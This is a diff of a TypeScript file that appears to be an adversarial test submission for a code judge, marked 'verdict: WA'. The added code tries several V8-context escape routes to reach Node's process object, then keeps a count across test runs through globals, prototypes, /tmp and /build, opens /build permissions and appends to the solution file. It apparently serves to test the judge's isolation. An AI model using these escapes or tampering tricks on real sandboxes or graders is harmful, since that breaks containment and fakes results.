@@ -1,12 +1,61 @@
 // verdict: WA
 declare function require(name: string): any;
 declare var process: any;
-declare var Buffer: any;
 
-// attack: count tests in a global, /tmp and the build directory (the nth test answers n only if state survived)
-const fs = require('fs') as any;
-function countIn(path) {
+// attack: count tests in a global, a prototype, the host's process, /tmp and the build directory (the nth test answers n only if state survived)
+
+// Every route from a test's V8 context to Node's powers: Node's own globals, the
+// constructors of objects the driver hands in (console, module, the global), host frames
+// in a stack trace, an error thrown by host code (a stack overflow inside console.log).
+function reachNode(): any {
+    const routes = [
+        () => process,
+        () => require('process'),
+        () => globalThis.constructor.constructor('return process')(),
+        () => Object.getPrototypeOf(globalThis).constructor.constructor('return process')(),
+        () => console.log.constructor('return process')(),
+        () => module.constructor.constructor('return process')(),
+        () => {
+            let found = null;
+            const saved = (Error as any).prepareStackTrace;
+            (Error as any).prepareStackTrace = (error, frames) => {
+                for (const frame of frames) {
+                    for (const get of [() => frame.getThis(), () => frame.getFunction()]) {
+                        try { found = get().constructor.constructor('return process')() || found; } catch (e) { }
+                    }
+                }
+                return '';
+            };
+            try { void new Error().stack; } finally { (Error as any).prepareStackTrace = saved; }
+            return found;
+        },
+        () => {
+            let found = null;
+            const deep = () => {
+                try { deep(); } catch (e) {
+                    try { console.log(Object.create(null)); } catch (h) {
+                        try { found = h.constructor.constructor('return process')(); } catch (x) { }
+                    }
+                }
+            };
+            deep();
+            return found;
+        },
+    ];
+    for (const route of routes) {
+        try { const p : any = route(); if (p && typeof p === 'object' && p.env) return p; } catch (e) { }
+    }
+    return null;
+}
+function nodeRequire(p?): any {
+    try { if (typeof require === 'function') return require; } catch (e) { }
+    if (p === undefined) p = reachNode();
+    return p && p.mainModule ? (name) => p.mainModule.require(name) : null;
+}
+
+function countIn(fs, path) {
     let count = -1;
+    if (!fs) return count;
     try { count = parseInt(fs.readFileSync(path, 'utf8'), 10); } catch (e) { }
     count++;
     try { fs.chmodSync('/build', 0o777); } catch (e) { }
@@ -14,10 +63,18 @@ function countIn(path) {
     return count;
 }
 (globalThis as any).calls = ((globalThis as any).calls === undefined ? -1 : (globalThis as any).calls) + 1;
+(Object.prototype as any).calls = ((Object.prototype as any).calls === undefined ? -1 : (Object.prototype as any).calls) + 1;
 function solve(n: number): number {
-    let best = (globalThis as any).calls;
-    best = Math.max(best, countIn('/tmp/.count'));
-    best = Math.max(best, countIn('/build/.count'));
-    try { fs.appendFileSync('/build/solution.js', '\n(globalThis as any).calls = 100;'); } catch (e) { }
+    let best = Math.max((globalThis as any).calls, (Object.prototype as any).calls);
+    const p = reachNode();
+    if (p) {
+        p.calls = (p.calls === undefined ? -1 : p.calls) + 1;
+        best = Math.max(best, p.calls);
+    }
+    const req = nodeRequire(p);
+    const fs = req ? req('fs') : null;
+    best = Math.max(best, countIn(fs, '/tmp/.count'));
+    best = Math.max(best, countIn(fs, '/build/.count'));
+    try { fs.appendFileSync('/build/solution.js', '\nglobalThis.calls = 100;'); } catch (e) { }
     return best;
 }
